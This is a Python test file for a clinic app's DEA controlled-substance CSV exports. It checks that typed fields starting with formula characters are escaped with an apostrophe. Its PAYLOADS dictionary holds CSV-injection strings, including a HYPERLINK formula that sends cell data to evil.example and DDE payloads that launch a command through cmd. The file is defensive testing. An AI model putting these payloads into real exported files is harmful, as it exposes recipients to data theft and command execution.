"""Issue 22 point 3: the DEA exports (CS-11 inventory, R5 theft/loss pack, CS-18 Form 41 and the
CS-47 records) are opened in spreadsheet programs. A cell typed by a person that starts with
=, +, -, @, a tab or a carriage return would run there as a formula; like every other export,
such a cell is written with a leading apostrophe. These tests fail on main, whose exports wrote
the text as typed."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from infusionclinic.common.spreadsheet import FORMULA_STARTS, csv_safe_row
from infusionclinic.controlled import compliance, exports, records, services
from tests.factories import PASSWORD, make_user

pytestmark = pytest.mark.django_db

DEA = "AB1234563"
# One payload per dangerous first character (issue 22 point 3: =, +, -, @, tab, CR).
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def _rows(body: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body)))


def _assert_neutralised(rows, column, payload):
    assert rows, "the export has a row"
    for row in rows:
        # Services strip surrounding blanks, so a leading tab/CR may arrive as the "=" after it.
        assert row[column][:1] == "'"
        assert row[column][1:].strip() == payload.strip()
        assert row[column][:1] not in FORMULA_STARTS


def _registration(admin_user, location, name):
    return compliance.registration_record(
        actor=admin_user,
        location=location,
        registrant_name=name,
        dea_number=DEA,
        address="1 Main St, Springfield",
        expires_on=timezone.localdate(timezone=location.tzinfo) + timedelta(days=400),
    )


@pytest.fixture
def lot(nurse, location, ketamine):
    return services.receipt_record(
        actor=nurse,
        location=location,
        product=ketamine,
        lot_number="L123",
        expiry=timezone.localdate(timezone=location.tzinfo) + timedelta(days=365),
        containers=2,
        supplier=PAYLOADS["@"],
        invoice_number="INV-1",
    ).lot


def test_csv_safe_row_neutralises_text_and_keeps_numbers():
    """The shared helper: text starting with a formula character gets an apostrophe; a negative
    number stays a number (it is not text a person typed)."""
    from decimal import Decimal

    row = csv_safe_row([PAYLOADS["="], "plain", Decimal("-1.5"), 3, None])
    assert row == ["'" + PAYLOADS["="], "plain", Decimal("-1.5"), 3, None]


@pytest.mark.parametrize("start", list(PAYLOADS))
def test_inventory_csv_neutralises_a_formula_in_the_registrant_name(
    start, admin_user, location, lot
):
    """CS-11 inventory (issue 22 point 3): each formula start in a typed name is neutralised."""
    payload = PAYLOADS[start]
    _registration(admin_user, location, payload)
    body = exports.inventory_csv(actor=admin_user, location=location, opening_or_close="close")
    _assert_neutralised(_rows(body), "registrant", payload)


def test_loss_pack_csv_neutralises_a_formula_in_the_circumstances(nurse, admin_user, location, lot):
    """R5 theft/loss pack (issue 22 point 3): circumstances, police department and carrier."""
    compliance.loss_report_open(
        actor=nurse,
        location=location,
        discovered_at=timezone.now(),
        loss_type="employee_pilferage",
        circumstances=PAYLOADS["="],
        lines=[(lot, "2.00")],
        police_notified=True,
        police_department=PAYLOADS["+"],
        carrier=PAYLOADS["\t"],
    )
    rows = _rows(exports.loss_pack_csv(actor=admin_user, location=location))
    _assert_neutralised(rows, "circumstances", PAYLOADS["="])
    _assert_neutralised(rows, "police_department", PAYLOADS["+"])
    _assert_neutralised(rows, "carrier", PAYLOADS["\t"])


def test_form41_csv_neutralises_a_formula_in_method_and_place(
    nurse, prescriber, admin_user, location, lot
):
    """CS-18 Form 41 (issue 22 point 3): the method and place typed by the nurse."""
    second = make_user("nurse", location)
    destruction = compliance.destruction_record(
        actor=nurse,
        location=location,
        lines=[(lot, "10.00")],
        method=PAYLOADS["-"],
        place=PAYLOADS["\r"],
        witness_1_email=prescriber.email,
        witness_1_secret=PASSWORD,
        witness_2_email=second.email,
        witness_2_secret=PASSWORD,
    )
    rows = _rows(exports.form41_csv(actor=admin_user, destruction=destruction))
    _assert_neutralised(rows, "method", PAYLOADS["-"])
    _assert_neutralised(rows, "place", PAYLOADS["\r"])


def test_records_csv_neutralises_a_formula_in_the_supplier(admin_user, location, lot):
    """CS-47 records (the same DEA exports, issue 22 point 3): the supplier typed at receipt."""
    today = timezone.localdate(timezone=location.tzinfo)
    body = records.records_csv(
        actor=admin_user,
        location=location,
        report="receipts",
        date_from=today - timedelta(days=1),
        date_to=today,
    )
    _assert_neutralised(_rows(body), "supplier", PAYLOADS["@"])
